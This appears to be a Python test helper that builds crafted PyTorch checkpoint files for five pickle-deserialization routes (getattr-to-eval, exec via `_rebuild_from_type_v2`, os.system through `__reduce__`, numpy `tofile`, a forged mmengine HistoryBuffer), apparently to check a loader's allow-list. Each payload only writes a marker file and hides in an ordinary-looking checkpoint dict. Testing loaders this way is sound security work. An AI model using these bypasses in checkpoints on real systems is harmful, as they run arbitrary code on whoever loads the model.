"""Crafted checkpoints, built for real in the stack env: each route, when unpickled, writes a marker file.

Routes (each a torch.save zip whose data.pkl carries the payload inside an ordinary-looking checkpoint dict, beside
real weights when a source checkpoint is given):
- getattr-eval: builtins.getattr reaches the builtins module (`getattr.__self__`) and eval; torch's own
  allow-listed `torch._tensor._rebuild_from_type_v2` calls it (the issue's route: live under the old allow-list);
- rebuild-exec: `_rebuild_from_type_v2` handed builtins.exec directly;
- reduce-system: a plain REDUCE of os.system (`__reduce__`, the classic pickle payload);
- numpy-tofile: a numpy array built by the allow-listed numpy globals, its `tofile` method reached through getattr
  and called by `_rebuild_from_type_v2` (a file write: live under the old allow-list);
- history-buffer: mmengine's HistoryBuffer whose state carries `statistics_methods` = {"mean": eval reached through
  getattr} and the eval call itself, so that its mere unpickling writes the marker (live under the old allow-list).

`build(stack_python, out, marker)` writes OUT/ROUTE.pth for every route and returns {route: path}.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

ROUTES = ("getattr-eval", "rebuild-exec", "reduce-system", "numpy-tofile", "history-buffer")
# the routes that ran under hoofenv's old process-wide allow-list (it held builtins.getattr)
LIVE_UNDER_OLD_ALLOW_LIST = ("getattr-eval", "numpy-tofile", "history-buffer")

BUILDER = r'''
import copyreg, json, os, shlex, sys
import numpy as np
import torch
from mmengine.logging.history_buffer import HistoryBuffer

out, marker, source = sys.argv[1], sys.argv[2], sys.argv[3]


class R:
    """Pickles as REDUCE f(*args): the building block of every route."""
    def __init__(self, f, *args):
        self.f, self.args = f, args

    def __reduce__(self):
        return (self.f, self.args)


class Buffer:
    """Pickles as a HistoryBuffer (NEWOBJ + BUILD) with a state of our choosing."""
    def __init__(self, state):
        self.state = state

    @property
    def __class__(self):  # pickle checks that NEWOBJ's class is the object's
        return HistoryBuffer

    def __reduce__(self):
        return (copyreg.__newobj__, (HistoryBuffer,), self.state)


rebuild = torch._tensor._rebuild_from_type_v2
code = f"__import__('pathlib').Path({marker!r}).write_text('ran')"
builtins_module = R(getattr, getattr, "__self__")
evil_eval = R(getattr, builtins_module, "eval")
array = np.frombuffer(b"ran", dtype=np.uint8).copy()
routes = {
    "getattr-eval": R(rebuild, evil_eval, torch.Tensor, (code,), {}),
    "rebuild-exec": R(rebuild, exec, torch.Tensor, (code,), {}),
    "reduce-system": R(os.system, "touch " + shlex.quote(marker)),
    "numpy-tofile": R(rebuild, R(getattr, array, "tofile"), torch.Tensor, (marker,), {}),
    "history-buffer": Buffer({"max_length": 10, "_log_history": np.array([1.0]), "_count_history": np.array([1]),
                              "statistics_methods": {"mean": evil_eval},
                              "note": R(rebuild, evil_eval, torch.Tensor, (code,), {})}),
}
base = torch.load(source, map_location="cpu", weights_only=False) if source else {"state_dict": {}}
for name, payload in routes.items():
    ckpt = {"meta": {"epoch": 1, "iter": 2, "note": payload}, "state_dict": base["state_dict"],
            "message_hub": {"log_scalars": {"train/loss": payload if name == "history-buffer" else 0.5},
                            "runtime_info": {}, "resumed_keys": {}}}
    torch.save(ckpt, os.path.join(out, name + ".pth"))
print(json.dumps(sorted(routes)))
'''


def build(stack_python, out: Path, marker: Path, source: Path | None = None) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    proc = subprocess.run([str(stack_python), "-c", BUILDER, str(out), str(marker), str(source or "")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == sorted(ROUTES)
    return {name: out / f"{name}.pth" for name in ROUTES}
